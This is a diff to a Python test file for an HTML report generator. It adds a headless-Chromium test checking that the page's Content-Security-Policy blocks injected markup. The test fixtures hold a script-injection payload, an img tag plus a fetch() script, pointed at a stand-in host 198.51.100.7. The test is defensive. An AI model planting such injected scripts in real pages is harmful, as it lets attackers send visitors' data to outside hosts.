@@ -32,7 +32,8 @@ HOSTILE = '<img src="http://198.51.100.7/x.png"><script>fetch("http://198.51.100
 HOSTILE_TYPE = 'Q2_K<a href="http://198.51.100.7/z">x</a>'  # Plotly reads tags in its text: this must stay text
 # Debian's chromium with the flags that keep it off the network (env notes: no background fetches)
 CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
-                 "--no-first-run", "--disable-sync"]
+                 "--no-first-run", "--disable-sync",
+                 "--proxy-server=http://127.0.0.1:9"]  # a dead loopback port: even a broken page reaches nothing
 
 
 def invoke(*args: str) -> tuple[int, str]:
@@ -60,6 +61,14 @@ def chromium() -> str:
     return path
 
 
+# every chart has drawn its chosen point (the last trace Plotly adds): drawing is done
+CHARTS_DRAWN = """() => { const charts = document.querySelectorAll('.js-plotly-plot');
+    return charts.length > 0 && Array.from(charts).every(gd => gd.querySelector('g.trace.tracechosen path.point')); }"""
+# records what the page's Content-Security-Policy blocked
+CSP_WATCH = """window.__blocked = [];
+document.addEventListener('securitypolicyviolation', e => window.__blocked.push(e.blockedURI + ' ' + e.violatedDirective));"""
+
+
 def open_in_chromium(page_file: Path, screenshot: Path) -> dict[str, Any]:
     """Load the page from disk; what it requested, what the charts drew, and its text."""
     from playwright.sync_api import sync_playwright
@@ -73,8 +82,7 @@ def open_in_chromium(page_file: Path, screenshot: Path) -> dict[str, Any]:
             page.on("request", lambda r: requests.append(r.url))
             page.on("pageerror", lambda e: errors.append(str(e)))
             page.goto(page_file.as_uri())
-            page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length > 0", timeout=30_000)
-            page.wait_for_timeout(500)  # let the last chart finish drawing
+            page.wait_for_function(CHARTS_DRAWN, timeout=30_000)
             charts = page.evaluate("""() => Array.from(document.querySelectorAll('.js-plotly-plot')).map(gd => ({
                 id: gd.id,
                 drawn: Object.fromEntries(Array.from(gd.querySelectorAll('g.trace')).map(t =>
@@ -133,6 +141,39 @@ def test_report_draws_every_variant_offline_in_chromium(results: Path, tmp_path:
         assert reject.reasons[0] in text
     for heading in ("Accuracy by specialty", "Accuracy by incidence", "KL", "top-1", "Measured on", "median ±half-range"):
         assert heading in text
+
+
+def test_the_content_security_policy_blocks_markup_that_escaped_escaping(results: Path, tmp_path: Path) -> None:
+    """The CSP is the second line: markup that got past escaping (here put in the page by hand) still
+    fetches nothing. Without the policy Chromium would request both TEST-NET addresses."""
+    from playwright.sync_api import sync_playwright
+
+    page_file = tmp_path / "report.html"
+    code, out = invoke("report", str(results), "-o", str(page_file))
+    assert code == 0, out
+    html = page_file.read_text()
+    assert 'http-equiv="Content-Security-Policy"' in html
+    page_file.write_text(html.replace("<body>", "<body>" + HOSTILE.replace("<script>", "<script>window.__ran = true;"), 1))
+    failed: dict[str, str] = {}
+    finished: list[str] = []
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=chromium(), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page()
+            page.add_init_script(CSP_WATCH)
+            page.on("requestfinished", lambda r: finished.append(r.url))
+            page.on("requestfailed", lambda r: failed.update({r.url: r.failure or ""}))
+            page.goto(page_file.as_uri())
+            page.wait_for_function(CHARTS_DRAWN, timeout=30_000)
+            page.wait_for_function("window.__blocked.length >= 2", timeout=10_000)
+            ran, blocked = page.evaluate("() => [window.__ran === true, window.__blocked]")
+        finally:
+            browser.close()
+    assert ran  # the injected script did run: only the policy stood between it and the network
+    assert finished == [page_file.as_uri()], (finished, failed)
+    assert all(url.startswith("http://198.51.100.7/") and why in ("csp", "net::ERR_BLOCKED_BY_CSP") for url, why in failed.items()), failed
+    assert any(b.startswith("http://198.51.100.7/x.png img-src") for b in blocked), blocked
+    assert any(b.startswith("http://198.51.100.7/y connect-src") for b in blocked), blocked
 
 
 def test_terminal_tables_of_profile_plan_and_bundle_fit_100_columns(results: Path, tmp_path: Path) -> None:
